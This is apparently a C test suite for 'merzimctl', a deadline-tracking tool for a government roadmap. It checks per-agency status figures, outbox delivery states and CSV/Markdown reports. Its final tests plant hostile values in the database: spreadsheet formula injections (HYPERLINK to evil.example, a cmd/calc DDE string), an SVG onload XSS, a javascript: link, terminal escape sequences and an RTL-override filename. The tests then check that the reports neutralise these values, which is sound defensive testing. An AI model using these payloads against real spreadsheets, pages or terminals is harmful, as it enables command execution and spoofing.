/* merzimctl status and report on the seed roadmap: the figures a coordinator reads every morning and the
 * execution report sent up, checked against figures worked out here from the seed's dates. */
#include "config.h"

#include <criterion/criterion.h>
#include <jansson.h>
#include <sqlite3.h>
#include <stdio.h>

#include "date.h"
#include "helpers.h"
#include "util.h"

#define PYTHON "/usr/bin/python3"

static char *dir, *conf, *seed, *db_path;

static void setup(void) {
        dir = test_mkdtemp();
        conf = test_write(dir, "merzim.conf", "database = \"merzim.db\";\ntimezone = \"Asia/Almaty\";\n");
        seed = test_seed_path();
        db_path = xasprintf("%s/merzim.db", dir);
        unsetenv("COLUMNS"); /* the default width, 100 */
}

static void teardown(void) {
        test_rmdir(dir);
        free(dir);
        free(conf);
        free(seed);
        free(db_path);
}

TestSuite(status, .init = setup, .fini = teardown);

#define CTL(out, err, ...) test_run((const char *const[]) {"merzimctl", "-c", conf, __VA_ARGS__, NULL}, NULL, out, err)

/* Run merzimctl ARGS... --json and parse what it prints. */
static json_t *ctl_json(const char *const *args) {
        const char *argv[32] = {"merzimctl", "-c", conf};
        size_t n = 3;
        for (size_t i = 0; args[i]; i++)
                argv[n++] = args[i];
        argv[n++] = "--json";
        argv[n] = NULL;
        _cleanup_free_ char *out = NULL, *err = NULL;
        int status = test_run(argv, NULL, &out, &err);
        cr_assert_eq(status, 0, "merzimctl %s failed: %s", args[0], err);
        json_error_t e;
        json_t *v = json_loads(out, 0, &e);
        cr_assert_not_null(v, "not JSON (%s): %s", e.text, out);
        return v;
}

/* Import the seed; mark measure 1 (due 2022-06-30) done on time and measure 4 (due 2022-08-31) late. */
static void import_seed_and_report_two(void) {
        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "import", seed, "--coordinator", "ИИДМ"), 0, "%s", err);
        free(err), err = NULL;
        cr_assert_eq(CTL(NULL, &err, "done", "1", "--at", "2022-06-20", "--by", "ИИДМ", "--now", "2023-07-01"), 0,
                     "%s", err);
        free(err), err = NULL;
        cr_assert_eq(CTL(NULL, &err, "done", "4", "--at", "2022-09-05", "--now", "2023-07-01"), 0, "%s", err);
}

/* Run SQL on the test's database, as the daemon would have written it. */
static void db_exec(const char *sql) {
        test_exec(db_path, sql);
}

/* Whether a measure (from measures --json) lists an agency among its executors. */
static bool measure_has(json_t *measure, const char *agency) {
        size_t i;
        json_t *code;
        json_array_foreach(json_object_get(measure, "agencies"), i, code) {
                if (streq(json_string_value(code), agency))
                        return true;
        }
        return false;
}

/* A measure of measures --json by its number. */
static json_t *measure_by_number(json_t *measures, json_int_t number) {
        size_t i;
        json_t *m;
        json_array_foreach(measures, i, m) {
                if (json_integer_value(json_object_get(m, "number")) == number)
                        return m;
        }
        cr_assert_fail("no measure %" JSON_INTEGER_FORMAT, number);
        return NULL;
}

/* An agency's figures in the status, or NULL. */
static json_t *status_of(json_t *status, const char *agency) {
        size_t i;
        json_t *a;
        json_array_foreach(json_object_get(status, "agencies"), i, a) {
                if (streq(json_string_value(json_object_get(a, "code")), agency))
                        return a;
        }
        return NULL;
}

/* Days from one ISO date to another. */
static int days_between(const char *from, const char *to) {
        day_t a, b;
        cr_assert_eq(date_parse(from, &a), 0);
        cr_assert_eq(date_parse(to, &b), 0);
        return b - a;
}

#define FIELD(o, k) json_integer_value(json_object_get((o), (k)))

/* Check every agency's figures against the occurrences and executors merzimctl lists, counted here:
 * overdue is pending with the effective due date before today; due soon, from today to soon_end. */
static void check_every_agency(json_t *status, const char *today, const char *soon_end) {
        json_t *measures = ctl_json((const char *const[]) {"measures", NULL});
        json_t *occurrences = ctl_json((const char *const[]) {"occurrences", NULL});
        json_t *agencies = ctl_json((const char *const[]) {"agencies", NULL});
        cr_assert_eq(json_array_size(json_object_get(status, "agencies")), 25, "every agency of the plan");
        size_t i, k;
        json_t *g, *o;
        json_array_foreach(agencies, i, g) {
                const char *code = json_string_value(json_object_get(g, "code"));
                if (FIELD(g, "measures") == 0)
                        continue; /* a report recipient that executes nothing (БҒМ) */
                int overdue = 0, due_soon = 0, on_time = 0, late = 0;
                const char *oldest = NULL;
                json_array_foreach(occurrences, k, o) {
                        json_t *m = measure_by_number(measures, FIELD(o, "measure"));
                        if (!measure_has(m, code))
                                continue;
                        const char *due = json_string_value(json_object_get(o, "effective_due"));
                        const char *st = json_string_value(json_object_get(o, "status"));
                        if (streq(st, "pending") && strcmp(due, today) < 0) {
                                overdue++;
                                if (!oldest || strcmp(due, oldest) < 0)
                                        oldest = due;
                        } else if (streq(st, "pending") && strcmp(due, soon_end) <= 0) {
                                due_soon++;
                        } else if (streq(st, "done")) {
                                /* The two marked done: measure 1 on time, measure 4 five days late. */
                                on_time += FIELD(o, "measure") == 1;
                                late += FIELD(o, "measure") == 4;
                        }
                }
                json_t *a = status_of(status, code);
                cr_assert_not_null(a, "%s is in the status", code);
                cr_expect_eq(FIELD(a, "overdue"), overdue, "%s overdue", code);
                cr_expect_eq(FIELD(a, "due_soon"), due_soon, "%s due soon", code);
                cr_expect_eq(FIELD(a, "done_on_time"), on_time, "%s done on time", code);
                cr_expect_eq(FIELD(a, "done_late"), late, "%s done late", code);
                if (oldest) {
                        cr_expect_str_eq(json_string_value(json_object_get(a, "oldest_overdue")), oldest, "%s", code);
                        cr_expect_eq(FIELD(a, "oldest_overdue_days"), days_between(oldest, today), "%s", code);
                } else {
                        cr_expect(json_is_null(json_object_get(a, "oldest_overdue")), "%s", code);
                }
        }
        /* Worst first: the overdue counts never grow down the list. */
        json_int_t previous = INT32_MAX;
        json_array_foreach(json_object_get(status, "agencies"), i, g) {
                cr_expect_leq(FIELD(g, "overdue"), previous, "sorted worst first");
                previous = FIELD(g, "overdue");
        }
        json_decref(measures);
        json_decref(occurrences);
        json_decref(agencies);
}

/* Every line of text is at most width code points. */
static void check_width(const char *text, size_t width) {
        size_t n = 0;
        int line = 1;
        for (const unsigned char *p = (const unsigned char *) text; *p; p++) {
                if (*p == '\n') {
                        n = 0, line++;
                        continue;
                }
                if ((*p & 0xC0) != 0x80)
                        n++;
                cr_assert_leq(n, width, "line %d is longer than %zu columns:\n%s", line, width, text);
        }
}

Test(status, the_figures_of_each_agency_on_1_july_2023) {
        import_seed_and_report_two();
        json_t *s = ctl_json((const char *const[]) {"status", "--now", "2023-07-01", NULL});
        cr_assert_str_eq(json_string_value(json_object_get(s, "today")), "2023-07-01");

        /* The Ministry of Industry: 20 deadlines missed, the oldest the end of June 2022. */
        json_t *iidm = status_of(s, "ИИДМ");
        cr_assert_not_null(iidm);
        cr_assert_eq(FIELD(iidm, "overdue"), 20);
        cr_assert_str_eq(json_string_value(json_object_get(iidm, "oldest_overdue")), "2022-06-30");
        cr_assert_eq(FIELD(iidm, "oldest_overdue_days"), 366);
        cr_assert_eq(FIELD(iidm, "done_on_time"), 1);
        cr_assert_eq(FIELD(iidm, "done_late"), 1);
        cr_assert_eq(FIELD(iidm, "due_soon"), 0);
        check_every_agency(s, "2023-07-01", "2023-07-31");

        /* The plan counts each occurrence once. */
        json_t *totals = json_object_get(s, "totals");
        cr_assert_eq(FIELD(totals, "occurrences"), 47);
        cr_assert_eq(FIELD(totals, "overdue"), 32);
        cr_assert_eq(FIELD(totals, "done_on_time"), 1);
        cr_assert_eq(FIELD(totals, "done_late"), 1);
        cr_assert_eq(json_array_size(json_object_get(s, "plans")), 1);

        /* Nothing was ever sent: the outbox is empty. */
        json_t *outbox = json_object_get(s, "outbox");
        cr_assert_eq(FIELD(outbox, "pending") + FIELD(outbox, "retrying") + FIELD(outbox, "failed"), 0);
        cr_assert_eq(json_array_size(json_object_get(outbox, "problems")), 0);
        json_decref(s);
}

Test(status, due_soon_is_the_next_30_days) {
        import_seed_and_report_two();
        json_t *s = ctl_json((const char *const[]) {"status", "--now", "2023-06-15", NULL});
        check_every_agency(s, "2023-06-15", "2023-07-15");
        /* Eight measures fall due on 30 June 2023; the ministry takes part in four of them (3, 23, 26, 32). */
        cr_assert_eq(FIELD(json_object_get(s, "totals"), "due_soon"), 8);
        cr_assert_eq(FIELD(status_of(s, "ИИДМ"), "due_soon"), 4);
        json_decref(s);
}

Test(status, the_screen_fits_100_columns_and_shows_a_failed_delivery) {
        import_seed_and_report_two();
        db_exec("INSERT INTO notification (id, key, plan_id, recipient, kind, stage, scheduled_at, created_at, "
                "language, subject, body, payload) VALUES (1, 'k1', 1, 'ИИДМ', 'escalation', '+1wd', 1688090400, "
                "1688090400, 'kk', 's', 'b', '{}'), (2, 'k2', 1, '\"Атамекен\" ҰКП', 'reminder', '7d', 1688090400, "
                "1688090400, 'kk', 's', 'b', '{}');"
                "INSERT INTO outbox (notification_id, channel, address, state, attempts, next_attempt_at, "
                "last_error) VALUES "
                "(1, 'email', 'minprom-kancelyariya-departamenta-mashinostroeniya@example.kz', 'failed', 1, "
                " 1688090400, '550 5.1.1 <minprom-kancelyariya-departamenta-mashinostroeniya@example.kz>: "
                "Recipient address rejected: User unknown in virtual mailbox table'),"
                "(1, 'webhook', 'https://hooks.example.kz/merzim/minprom/very/long/path/to/the/receiver', "
                " 'pending', 3, 1688191200, 'HTTP 503 Service Unavailable'),"
                "(2, 'email', 'atameken@example.kz', 'pending', 0, 1688191200, NULL),"
                "(2, 'webhook', 'https://atameken.example.kz/hook', 'sent', 1, 1688090400, NULL);");

        json_t *s = ctl_json((const char *const[]) {"status", "--now", "2023-07-01", NULL});
        json_t *outbox = json_object_get(s, "outbox");
        cr_assert_eq(FIELD(outbox, "pending"), 1, "never tried");
        cr_assert_eq(FIELD(outbox, "retrying"), 1);
        cr_assert_eq(FIELD(outbox, "failed"), 1);
        json_t *problems = json_object_get(outbox, "problems");
        cr_assert_eq(json_array_size(problems), 2, "the retried and the failed row, not the others");
        json_t *failed = json_array_get(problems, 0);
        cr_assert_str_eq(json_string_value(json_object_get(failed, "state")), "failed");
        cr_assert_str_eq(json_string_value(json_object_get(failed, "agency")), "ИИДМ");
        cr_assert(strstr(json_string_value(json_object_get(failed, "last_error")), "User unknown"));
        json_t *retrying = json_array_get(problems, 1);
        cr_assert_str_eq(json_string_value(json_object_get(retrying, "last_error")), "HTTP 503 Service Unavailable");
        /* 1688191200 is 2023-07-01 12:00 in Almaty (UTC+6 then). */
        cr_assert_str_eq(json_string_value(json_object_get(retrying, "next_attempt_at")), "2023-07-01T12:00:00+06:00");
        json_decref(s);

        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "status", "--now", "2023-07-01"), 0, "%s", err);
        check_width(out, 100);
        cr_assert_eq(test_figure(out, "waiting for a first try"), 1, "%s", out);
        cr_assert_eq(test_figure(out, "being retried"), 1, "%s", out);
        cr_assert_eq(test_figure(out, "failed"), 1, "%s", out);
        cr_assert(strstr(out, "550 5.1.1"), "the failed row's error is shown: %s", out);
        cr_assert(strstr(out, "HTTP 503"), "%s", out);
        cr_assert(strstr(out, "2023-07-01 12:00"), "when it is tried next: %s", out);
        /* The ministry's row: overdue, oldest due date, days late, due soon, on time, late. */
        const char *row = strstr(out, "\nИИДМ ");
        cr_assert_not_null(row, "%s", out);
        int overdue, days, soon, on_time, late;
        char oldest[11];
        cr_assert_eq(sscanf(row + strlen("\nИИДМ "), "%d %10s %d %d %d %d", &overdue, oldest, &days, &soon, &on_time,
                            &late), 6, "%s", row);
        cr_assert_eq(overdue, 20);
        cr_assert_str_eq(oldest, "2022-06-30");
        cr_assert_eq(days, 366);
        cr_assert_eq(on_time + late, 2);
        /* The worst agency comes first. */
        const char *header = strstr(out, "AGENCY");
        cr_assert_not_null(header);
        cr_assert(strncmp(strchr(header, '\n') + 1, "\"Атамекен\" ҰКП", strlen("\"Атамекен\" ҰКП")) == 0, "%s", out);
}

Test(status, delivered_today_and_in_the_last_7_days) {
        import_seed_and_report_two();
        db_exec("INSERT INTO notification (id, key, plan_id, recipient, kind, stage, scheduled_at, created_at, "
                "language, subject, body, payload) VALUES (1, 'k1', 1, 'ИИДМ', 'reminder', '7d', 1687496400, "
                "1687496400, 'kk', 's', 'b', '{}');"
                /* Now is 2023-07-01 12:00 in Almaty (UTC+6 then): delivered this morning, last evening,
                 * six days ago, eight days ago, and (the clock of --now) an hour from now. */
                "INSERT INTO outbox (notification_id, channel, address, state, attempts, next_attempt_at, sent_at) "
                "VALUES (1, 'email', 'a@example.kz', 'sent', 1, 0, 1688176800),"
                "(1, 'email', 'b@example.kz', 'sent', 1, 0, 1688133600),"
                "(1, 'email', 'c@example.kz', 'sent', 1, 0, 1687590000),"
                "(1, 'email', 'd@example.kz', 'sent', 1, 0, 1687496400),"
                "(1, 'email', 'e@example.kz', 'sent', 1, 0, 1688194800),"
                "(1, 'email', 'f@example.kz', 'failed', 1, 0, NULL);");
        json_t *s = ctl_json((const char *const[]) {"status", "--now", "2023-07-01T12:00", NULL});
        json_t *outbox = json_object_get(s, "outbox");
        cr_assert_eq(FIELD(outbox, "delivered_today"), 1);
        cr_assert_eq(FIELD(outbox, "delivered_7_days"), 3);
        json_decref(s);
        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "status", "--now", "2023-07-01T12:00"), 0, "%s", err);
        cr_assert(strstr(out, "Outbox:\n"), "%s", out);
        cr_assert_eq(test_figure(out, "delivered today"), 1, "%s", out);
        cr_assert_eq(test_figure(out, "delivered in the last 7 days"), 3, "%s", out);
        /* The state, padded to the longest ("being retried"), then the delivery. */
        cr_assert(strstr(out, "\nfailed        #6 ИИДМ"), "a failed delivery is shown with its ID: %s", out);
        cr_assert(strstr(out, "merzimctl outbox retry"), "%s", out);
}

/* Parse CSV with Python's csv module (strict: bad quoting is an error) into JSON rows. */
static json_t *python_csv(const char *csv_text) {
        _cleanup_free_ char *path = test_write(dir, "report.csv", csv_text);
        _cleanup_free_ char *out = NULL, *err = NULL;
        int rc = test_run((const char *const[]) {PYTHON, "-c",
                                                  "import csv, json, sys\n"
                                                  "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                                                  "    rows = list(csv.reader(f, strict=True))\n"
                                                  "print(json.dumps(rows))\n",
                                                  path, NULL},
                          NULL, &out, &err);
        cr_assert_eq(rc, 0, "python3 could not read the CSV: %s", err);
        json_t *rows = json_loads(out, 0, NULL);
        cr_assert_not_null(rows, "%s", out);
        return rows;
}

/* The CSV row of a measure and period. */
static json_t *csv_row_of(json_t *rows, const char *measure, const char *period) {
        size_t i;
        json_t *r;
        json_array_foreach(rows, i, r) {
                if (streq(json_string_value(json_array_get(r, 1)), measure) &&
                    streq(json_string_value(json_array_get(r, 2)), period))
                        return r;
        }
        cr_assert_fail("no row for measure %s, period %s", measure, period);
        return NULL;
}

#define CELL(r, i) json_string_value(json_array_get((r), (i)))

Test(status, report_csv_is_rfc_4180_and_opens_with_cyrillic_intact) {
        import_seed_and_report_two();
        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "report", "--format", "csv", "--bom", "--now", "2023-07-01"), 0, "%s", err);
        cr_assert(strncmp(out, "\xEF\xBB\xBF", 3) == 0, "starts with a UTF-8 BOM");
        for (const char *p = strchr(out, '\n'); p; p = strchr(p + 1, '\n'))
                cr_assert_eq(p[-1], '\r', "CRLF line ends");
        cr_assert_eq(out[strlen(out) - 1], '\n');

        /* Measure 11's name is in quotes and has commas: quoted, its quotes doubled. */
        json_t *measures = ctl_json((const char *const[]) {"measures", NULL});
        const char *name11 = json_string_value(json_object_get(measure_by_number(measures, 11), "name"));
        cr_assert(strchr(name11, '"') && strchr(name11, ','));
        struct buf quoted = {0};
        buf_puts(&quoted, ",\"");
        for (const char *p = name11; *p; p++)
                buf_puts(&quoted, *p == '"' ? "\"\"" : (char[]) {*p, 0});
        buf_puts(&quoted, "\",");
        cr_assert(strstr(out, quoted.data), "the field is quoted as RFC 4180 says");
        buf_free(&quoted);

        json_t *rows = python_csv(out);
        cr_assert_eq(json_array_size(rows), 47 + 1, "a header and one row per occurrence");
        json_t *header = json_array_get(rows, 0);
        cr_assert_str_eq(CELL(header, 0), "plan");
        cr_assert_str_eq(CELL(header, 3), "name");
        size_t i;
        json_t *r;
        json_array_foreach(rows, i, r)
                cr_assert_eq(json_array_size(r), json_array_size(header), "row %zu has every column", i);

        json_t *r11 = csv_row_of(rows, "11", "2022-06");
        cr_assert_str_eq(CELL(r11, 3), name11, "the name comes back exactly");
        /* Lead first, by agreement marked. */
        json_t *r1 = csv_row_of(rows, "1", "2022-06");
        cr_assert_str_eq(CELL(r1, 4), "ИИДМ, ҰЭМ, \"Атамекен\" ҰКП*, ҚМО*");
        /* Done on 20 June 2022 (local date, though stored in UTC), on time; measure 4 five days late;
         * what is pending and past due, as late as it is today; what is not yet due, 0. */
        cr_assert_str_eq(CELL(r1, 7), "done");
        cr_assert_str_eq(CELL(r1, 8), "2022-06-20");
        cr_assert_str_eq(CELL(r1, 9), "ИИДМ");
        cr_assert_str_eq(CELL(r1, 10), "0");
        cr_assert_str_eq(CELL(csv_row_of(rows, "4", "2022-08"), 10), "5");
        cr_assert_str_eq(CELL(csv_row_of(rows, "10", "2022"), 10), "366");
        cr_assert_str_eq(CELL(csv_row_of(rows, "10", "2024"), 10), "0");
        /* A moved deadline: nominal 2022-10-30 (Sunday), effective 2022-10-28. */
        json_t *r7 = csv_row_of(rows, "7", "2022");
        cr_assert_str_eq(CELL(r7, 5), "2022-10-30");
        cr_assert_str_eq(CELL(r7, 6), "2022-10-28");
        json_decref(rows);
        json_decref(measures);

        free(out), out = NULL;
        cr_assert_eq(CTL(&out, NULL, "report", "--format", "csv", "--now", "2023-07-01"), 0);
        cr_assert(strncmp(out, "plan,", 5) == 0, "no BOM unless asked");
}

Test(status, report_md_has_a_row_per_occurrence_and_escapes_pipes) {
        import_seed_and_report_two();
        _cleanup_free_ char *err = NULL;
        cr_assert_eq(CTL(NULL, &err, "done", "10", "--period", "2023", "--by", "ЭМ | Минэнерго", "--at",
                         "2023-06-29", "--now", "2023-07-01"),
                     0, "%s", err);
        _cleanup_free_ char *out = NULL;
        cr_assert_eq(CTL(&out, NULL, "report", "--format", "md", "--now", "2023-07-01"), 0);
        cr_assert_eq(test_count_lines(out, "|"), 47 + 2, "header, rule and 47 rows:\n%s", out);
        cr_assert(strstr(out, "| ЭМ \\| Минэнерго |"), "a | in a value is escaped: %s", out);
        /* Every line has the same number of unescaped cell separators. */
        int columns = -1;
        for (char *line = out; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
                int n = 0;
                for (char *p = line; *p && *p != '\n'; p++)
                        n += *p == '|' && (p == line || p[-1] != '\\');
                if (columns < 0)
                        columns = n;
                cr_assert_eq(n, columns, "line: %.80s", line);
        }
        cr_assert_eq(columns, 14);
}

Test(status, report_from_to_keeps_the_occurrences_due_in_between) {
        import_seed_and_report_two();
        json_t *occurrences = ctl_json((const char *const[]) {"occurrences", NULL});
        size_t i, expected = 0;
        json_t *o;
        json_array_foreach(occurrences, i, o) {
                const char *due = json_string_value(json_object_get(o, "effective_due"));
                expected += strcmp(due, "2023-01-01") >= 0 && strcmp(due, "2023-06-30") <= 0;
        }
        json_decref(occurrences);
        cr_assert_eq(expected, 13);
        json_t *rows = ctl_json((const char *const[]) {"report", "--from", "2023-01-01", "--to", "2023-06-30",
                                                      "--now", "2023-07-01", NULL});
        cr_assert_eq(json_array_size(rows), expected);
        json_array_foreach(rows, i, o) {
                const char *due = json_string_value(json_object_get(o, "effective_due"));
                cr_assert(strcmp(due, "2023-01-01") >= 0 && strcmp(due, "2023-06-30") <= 0, "%s", due);
        }
        json_decref(rows);

        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "report", "--format", "csv", "--from", "2023-07-01", "--to", "2023-01-01"), 2);
        cr_assert(strstr(err, "after"), "%s", err);
}

Test(status, report_counts_the_reminders_and_escalations_delivered) {
        import_seed_and_report_two();
        /* Measure 10, period 2022 (due 2022-06-30, pending): reminders 30d and 7d delivered (30d to two
         * recipients), 1d failed, due still pending; escalation +1wd delivered, +7d cancelled. */
        db_exec("CREATE TEMP TABLE t AS SELECT o.id AS occ FROM occurrence o JOIN measure m ON m.id = o.measure_id "
                " WHERE m.number = 10 AND o.period = '2022';"
                "INSERT INTO notification (id, key, plan_id, recipient, kind, stage, scheduled_at, created_at, "
                " language, subject, body, payload) VALUES "
                "(1, 'a', 1, 'ЭМ', 'reminder', '30d', 0, 0, 'kk', 's', 'b', '{}'),"
                "(2, 'b', 1, 'ИИДМ', 'reminder', '30d', 0, 0, 'kk', 's', 'b', '{}'),"
                "(3, 'c', 1, 'ЭМ', 'reminder', '7d', 0, 0, 'kk', 's', 'b', '{}'),"
                "(4, 'd', 1, 'ЭМ', 'reminder', '1d', 0, 0, 'kk', 's', 'b', '{}'),"
                "(5, 'e', 1, 'ЭМ', 'due', 'due', 0, 0, 'kk', 's', 'b', '{}'),"
                "(6, 'f', 1, 'ИИДМ', 'escalation', '+1wd', 0, 0, 'kk', 's', 'b', '{}'),"
                "(7, 'g', 1, 'ИИДМ', 'escalation', '+7d', 0, 0, 'kk', 's', 'b', '{}');"
                "INSERT INTO notification_item (notification_id, occurrence_id, stage, role) "
                " SELECT n.id, t.occ, n.stage, 'executor' FROM notification n, t;"
                "INSERT INTO outbox (notification_id, channel, address, state, attempts, next_attempt_at) VALUES "
                "(1, 'email', 'em@example.kz', 'sent', 1, 0), (1, 'webhook', 'https://em.example.kz', 'sent', 1, 0),"
                "(2, 'email', 'iidm@example.kz', 'sent', 1, 0), (3, 'email', 'em@example.kz', 'sent', 2, 0),"
                "(4, 'email', 'em@example.kz', 'failed', 5, 0), (5, 'email', 'em@example.kz', 'pending', 0, 0),"
                "(6, 'email', 'iidm@example.kz', 'failed', 5, 0), (6, 'webhook', 'https://iidm.example.kz', "
                " 'sent', 1, 0), (7, 'email', 'iidm@example.kz', 'cancelled', 0, 0);");
        json_t *rows = ctl_json((const char *const[]) {"report", "--now", "2023-07-01", NULL});
        size_t i;
        json_t *r;
        int seen = 0;
        json_array_foreach(rows, i, r) {
                bool it = FIELD(r, "measure") == 10 && streq(json_string_value(json_object_get(r, "period")), "2022");
                cr_assert_eq(FIELD(r, "reminders_sent"), it ? 2 : 0, "measure %lld", (long long) FIELD(r, "measure"));
                cr_assert_eq(FIELD(r, "escalations_sent"), it ? 1 : 0);
                seen += it;
        }
        cr_assert_eq(seen, 1);
        json_decref(rows);

        _cleanup_free_ char *out = NULL;
        cr_assert_eq(CTL(&out, NULL, "report", "--format", "csv", "--now", "2023-07-01"), 0);
        json_t *csv = python_csv(out);
        json_t *header = json_array_get(csv, 0);
        cr_assert_str_eq(CELL(header, 11), "reminders sent");
        cr_assert_str_eq(CELL(header, 12), "escalations sent");
        json_t *r10 = csv_row_of(csv, "10", "2022");
        cr_assert_str_eq(CELL(r10, 11), "2");
        cr_assert_str_eq(CELL(r10, 12), "1");
        json_decref(csv);
}

Test(status, a_due_day_ends_at_midnight_local_time) {
        import_seed_and_report_two();
        /* Measure 6 is due 2022-10-31: done at 23:30 that evening is on time. Measure 5 is due 2022-11-30:
         * done at 03:00 the next morning (still 30 November in UTC) is a day late. */
        _cleanup_free_ char *err = NULL;
        cr_assert_eq(CTL(NULL, &err, "done", "6", "--at", "2022-10-31T23:30", "--now", "2023-07-01"), 0, "%s", err);
        free(err), err = NULL;
        cr_assert_eq(CTL(NULL, &err, "done", "5", "--at", "2022-12-01T03:00", "--now", "2023-07-01"), 0, "%s", err);
        json_t *s = ctl_json((const char *const[]) {"status", "--now", "2023-07-01", NULL});
        json_t *totals = json_object_get(s, "totals");
        cr_assert_eq(FIELD(totals, "done_on_time"), 2);
        cr_assert_eq(FIELD(totals, "done_late"), 2);
        json_decref(s);

        json_t *rows = ctl_json((const char *const[]) {"report", "--from", "2022-10-01", "--to", "2022-11-30",
                                                      "--now", "2023-07-01", NULL});
        size_t i;
        json_t *r;
        int seen = 0;
        json_array_foreach(rows, i, r) {
                if (FIELD(r, "measure") == 6) {
                        cr_assert_eq(FIELD(r, "days_late"), 0);
                        cr_assert_str_eq(json_string_value(json_object_get(r, "done_at")), "2022-10-31");
                        seen++;
                } else if (FIELD(r, "measure") == 5) {
                        cr_assert_eq(FIELD(r, "days_late"), 1);
                        cr_assert_str_eq(json_string_value(json_object_get(r, "done_at")), "2022-12-01");
                        seen++;
                }
        }
        cr_assert_eq(seen, 2);
        json_decref(rows);
}

/* What agencies and documents could put in the database, whatever refused it on the way in: formulas,
 * HTML, Markdown links and terminal escapes in names, agency codes and "done by". */
static void plant_hostile_text(void) {
        import_seed_and_report_two();
        db_exec("UPDATE measure SET name = '=HYPERLINK(\"http://evil.example/\"&A1,\"click\")' WHERE number = 2");
        db_exec("UPDATE measure SET name = char(9) || '=1+1' WHERE number = 3");
        db_exec("UPDATE measure SET name = char(13) || '=2+2' WHERE number = 5");
        db_exec("UPDATE measure SET name = '<svg onload=alert(1)> [x](javascript:alert(1)) `code` *bold*' "
                "WHERE number = 6");
        db_exec("UPDATE measure SET name = 'Title' || char(27) || ']0;pwned' || char(7) || char(27) || '[2J'"
                " || char(0x9B) || '2J ' || char(0x202E) || 'gnp.exe' WHERE number = 8");
        db_exec("UPDATE measure SET name = '＝1+1' WHERE number = 9");
        db_exec("UPDATE agency SET code = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE code = 'ИИДМ'");
        db_exec("UPDATE occurrence SET done_by = '+1+2' WHERE status = 'done' AND effective_due < '2022-07-01'");
        db_exec("UPDATE occurrence SET done_by = '-2+3' WHERE status = 'done' AND effective_due > '2022-07-01'");
}

Test(status, report_csv_cells_never_start_with_a_formula) {
        plant_hostile_text();
        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "report", "--format", "csv", "--now", "2023-07-01"), 0, "%s", err);
        cr_assert_null(strchr(out, '\x1b'), "an ESC byte in the CSV");
        json_t *rows = python_csv(out);
        cr_assert_eq(json_array_size(rows), 47 + 1);
        size_t i, k;
        json_t *r, *cell;
        int neutralised = 0;
        json_array_foreach(rows, i, r) {
                json_array_foreach(r, k, cell) {
                        const char *c = json_string_value(cell);
                        cr_expect(!strchr("=+-@\t\r", c[0]) || !c[0], "row %zu, column %zu starts with a formula: %s",
                                  i, k, c);
                        cr_expect(strncmp(c, "＝", strlen("＝")) != 0, "a full-width = first: %s", c);
                        neutralised += c[0] == '\'';
                }
        }
        /* Each planted value comes back whole, after an apostrophe. */
        cr_assert_geq(neutralised, 7, "%d cells neutralised", neutralised);
        static const struct {
                int measure, column;
                const char *want;
        } planted[] = {
                {2, 3, "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"},
                {3, 3, "'\\x09=1+1"},
                {5, 3, "'\\x0D=2+2"},
                {9, 3, "'＝1+1"},
                {1, 9, "'+1+2"},
                {4, 9, "'-2+3"},
                {1, 4, "'@SUM(1+1)*cmd|' /C calc'!A0, ҰЭМ, \"Атамекен\" ҰКП*, ҚМО*"},
        };
        for (size_t p = 0; p < ELEMENTSOF(planted); p++) {
                json_t *row = NULL;
                _cleanup_free_ char *number = xasprintf("%d", planted[p].measure);
                json_array_foreach(rows, i, r) if (streq(CELL(r, 1), number)) row = row ? row : r;
                cr_assert_not_null(row, "no row of measure %d", planted[p].measure);
                cr_expect_str_eq(CELL(row, planted[p].column), planted[p].want, "measure %d", planted[p].measure);
        }
        json_decref(rows);
}

Test(status, report_md_escapes_html_markdown_and_terminal_controls) {
        plant_hostile_text();
        _cleanup_free_ char *out = NULL, *err = NULL;
        cr_assert_eq(CTL(&out, &err, "report", "--format", "md", "--now", "2023-07-01"), 0, "%s", err);
        cr_assert_null(strstr(out, "<svg"), "raw HTML in the Markdown: %s", out);
        cr_assert(strstr(out, "&lt;svg onload=alert(1)&gt; \\[x\\](javascript:alert(1)) \\`code\\` \\*bold\\*"),
                  "%s", out);
        for (const char *p = out; *p; p++)
                cr_assert((unsigned char) *p >= 0x20 || *p == '\n', "a control character 0x%02x in: %.60s",
                          (unsigned char) *p, p);
        cr_assert_null(strstr(out, "\xc2\x9b"), "a C1 control (CSI) in the Markdown");
        cr_assert_null(strstr(out, "\xe2\x80\xae"), "a right-to-left override in the Markdown");
        cr_assert(strstr(out, "Title\\\\x1B\\]0;pwned\\\\x07\\\\x1B\\[2J\\\\u009B2J \\\\u202Egnp.exe"), "%s", out);
}
